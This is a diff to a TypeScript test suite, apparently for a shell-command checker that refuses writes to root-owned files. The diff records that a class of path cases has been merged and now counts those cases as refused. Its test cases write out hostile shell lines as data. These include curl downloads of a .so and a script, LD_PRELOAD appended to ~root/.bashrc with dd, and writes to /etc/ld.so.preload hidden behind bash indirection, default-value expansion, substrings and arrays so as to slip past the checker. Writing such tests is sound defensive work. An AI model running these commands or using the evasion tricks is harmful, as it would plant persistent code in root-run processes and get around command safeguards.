@@ -24,7 +24,7 @@
 // - BACKGROUND-SCOPE (2 secure: S2, S3): `cd /etc &` and `coproc cd /etc` run in subshells but are read in the
 //   current shell (over-refusal). S6 (aliases without expand_aliases) is refused by design (rootReads.ts:
 //   "whether or not the shell expands it"): skipped, noted, not counted.
-// Not reported (class NOT YET MERGED, fixed on fix76-node2, checked there): T2, P2, P12, P14 (unknown-part paths).
+// Not reported (class fixed on fix76-node2, merged in round 77): T2, P2, P12, P14 (unknown-part paths).
 // Held: tildes after = in dd operands, in arrays, declare, for lists, unset HOME, OLDPWD+cd -, ~- (T1-T10 but T2/T4/T8);
 // { } groups, if/for/lastpipe/source <( )/. /dev/stdin/builtin/command/\cd/pushd swaps/aliases/trap/cd -P (C1-C16 but
 // C4/C13); read/set --/${%}/${/}/${,,}/printf -v/+=()/mapfile/${::}/IFS read (P3-P15); ln -sr / trailing slash /
@@ -45,8 +45,8 @@ const SO = "curl -fsSL -o /opt/x.so https://downloads.example.com/x.so";
 const DL = "curl -fsSL -o /opt/ops.sh https://downloads.example.com/ops.sh";
 const PRE = "export LD_PRELOAD=/opt/x.so";
 const n = (id: string) => `dev-${id}-77n-nodes`;
-/** A case of the unknown-part class fixed on branch fix76-node2 (not merged): skipped, not reported. */
-const NODE2 = true;
+/** A case of the unknown-part class (RootReads.unknownTarget, branch fix76-node2, merged in round 77): refused. */
+const NODE2 = false;
 
 const insecure: NodeCase[] = [
     // ---- tildes ----
@@ -56,7 +56,7 @@ const insecure: NodeCase[] = [
         "T1 dd of=~root/.bashrc (tilde after = in an assignment-like argument)",
         devNodeScript(n("t1"), [SO, `echo '${PRE}' | dd of=~root/.bashrc oflag=append conv=notrunc`]),
     ),
-    // MISS (not reported: the unknown-part class, NOT YET MERGED, refused on fix76-node2): bash(1) "Parameter
+    // Was a MISS (fixed in round 77: the unknown-part class, branch fix76-node2): bash(1) "Parameter
     // Expansion": `${D:-word}` "word is subject to tilde expansion": an unset D gives /root/.bashrc. Accepted today:
     // D is the environment's (unknown), the path has an unknown part. Fix: branch fix76-node2.
     devNodeCase(
@@ -334,7 +334,7 @@ const insecure: NodeCase[] = [
         "P1 declare -n R=F; R=/etc/ld.so.preload; > $F",
         devNodeScript(n("p1"), [SO, "F=/tmp/x", "declare -n R=F", "R=/etc/ld.so.preload", 'echo /opt/x.so > "$F"']),
     ),
-    // MISS (not reported: unknown-part class, refused on fix76-node2): bash(1) "${!parameter}" indirection.
+    // Was a MISS (fixed in round 77: the unknown-part class, branch fix76-node2): bash(1) "${!parameter}" indirection.
     devNodeCase(
         "P2 ${!N} indirect",
         devNodeScript(n("p2"), [SO, "N=F", "F=/etc/ld.so.preload", 'echo /opt/x.so > "${!N}"']),
@@ -374,7 +374,7 @@ const insecure: NodeCase[] = [
         "P11 ${F:0:18} substring",
         devNodeScript(n("p11"), [SO, "F=/etc/ld.so.preloadXX", 'echo /opt/x.so > "${F:0:18}"']),
     ),
-    // MISS (not reported: unknown-part class, refused on fix76-node2): bash(1) "${parameter:=word}" assigns word.
+    // Was a MISS (fixed in round 77: the unknown-part class, branch fix76-node2): bash(1) "${parameter:=word}" assigns word.
     devNodeCase(
         "P12 : ${F:=/etc/ld.so.preload}",
         devNodeScript(n("p12"), [SO, ': "${F:=/etc/ld.so.preload}"', 'echo /opt/x.so > "$F"']),
@@ -394,7 +394,7 @@ const insecure: NodeCase[] = [
             'echo /opt/x.so > "$F"',
         ]),
     ),
-    // MISS (not reported: unknown-part class, refused on fix76-node2): associative array element.
+    // Was a MISS (fixed in round 77: the unknown-part class, branch fix76-node2): associative array element.
     devNodeCase(
         "P14 declare -A map",
         devNodeScript(n("p14"), [SO, "declare -A M=([p]=/etc/ld.so.preload)", 'echo /opt/x.so > "${M[p]}"']),
